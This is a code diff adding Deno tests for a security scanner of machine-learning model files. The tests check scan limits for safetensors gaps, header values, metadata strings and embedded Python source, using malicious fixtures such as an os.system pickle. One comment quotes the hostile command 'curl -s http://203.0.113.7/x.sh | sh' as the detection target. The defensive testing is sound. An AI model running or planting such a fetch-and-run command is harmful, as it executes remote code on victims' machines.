@@ -71,6 +71,62 @@ Deno.test("pytorch.maxTorchScriptSourceBytes: a code file longer is MA006, and a
   ]);
 });
 
+Deno.test("safetensors.maxScannedGaps: a gap past it is reported (MA325) but its pickle is not scanned", async () => {
+  // One 31-byte gap at 125 holding os.system's pickle.
+  const st = await fixture("safetensors/malicious/gap_hides_pickle.safetensors");
+  const at = async (maxScannedGaps?: number) =>
+    brief(
+      (await scanBytes(st, "m.safetensors", { scannerOptions: { safetensors: { maxScannedGaps } } }))
+        .findings,
+    );
+  const gap = "MA325 warning m.safetensors (pos 108, key $.b.data_offsets)";
+  assert.deepEqual(await at(1), [
+    gap,
+    "MA100 critical m.safetensors:<gap@125> (pos 2)",
+    "MA101 critical m.safetensors:<gap@125> (pos 29)",
+  ]);
+  assert.deepEqual(await at(0), [gap]);
+});
+
+Deno.test("safetensors.maxHeaderValues: MA330 at the first value past it, and the header is not judged", async () => {
+  // 13 values: the object, w's object, "F32", the shape and its 6 zeros, the offsets and their 2.
+  const json = '{"w":{"dtype":"F32","shape":[0,0,0,0,0,0],"data_offsets":[0,0]}}';
+  const st = new Uint8Array(8 + json.length);
+  new DataView(st.buffer).setBigUint64(0, BigInt(json.length), true);
+  st.set(encode(json), 8);
+  const at = async (maxHeaderValues: number) =>
+    (await scanBytes(st, "m.safetensors", { scannerOptions: { safetensors: { maxHeaderValues } } })).findings;
+  assert.deepEqual(await at(13), []);
+  const findings = await at(12);
+  assert.deepEqual(brief(findings), [`MA330 warning m.safetensors (pos ${8 + json.lastIndexOf("0")})`]);
+  assert.deepEqual(findings[0].details, {
+    limit: 12,
+    headerLength: json.length,
+    position: 8 + json.lastIndexOf("0"),
+  });
+});
+
+Deno.test("strings.maxCheckedChars: a sign of a second stage past it in a metadata value is not searched", async () => {
+  // The note "curl -s http://203.0.113.7/x.sh | sh": the raw IP URL ends at its 26th character, the pipe at its 36th.
+  const st = await fixture("safetensors/malicious/metadata_shell_pipe.safetensors");
+  const indicators = async (maxCheckedChars: number) =>
+    (await scanBytes(st, "m.safetensors", { scannerOptions: { strings: { maxCheckedChars } } })).findings
+      .map((f) => `${f.rule} ${f.details.indicator}`);
+  assert.deepEqual(await indicators(36), ["MA011 shell-pipe", "MA011 raw-ip-url"]);
+  assert.deepEqual(await indicators(35), ["MA011 raw-ip-url"]);
+  assert.deepEqual(await indicators(26), ["MA011 raw-ip-url"]);
+  assert.deepEqual(await indicators(25), []);
+});
+
+Deno.test("pickle.maxCodeScanChars bounds the source search in a safetensors metadata value too (MA012)", async () => {
+  const st = await fixture("safetensors/malicious/metadata_python_source.safetensors");
+  const rules = async (maxCodeScanChars?: number) =>
+    (await scanBytes(st, "m.safetensors", { scannerOptions: { pickle: { maxCodeScanChars } } })).findings
+      .map((f) => f.rule);
+  assert.deepEqual(await rules(), ["MA012"]);
+  assert.deepEqual(await rules(0), []);
+});
+
 Deno.test("tar.maxEntries: MA210 at the header of the first entry past it, which is not scanned", async () => {
   // README.txt at 0, payload.pkl (os.system) at 1024.
   const tar = await fixture("tar/malicious/payload.tar");
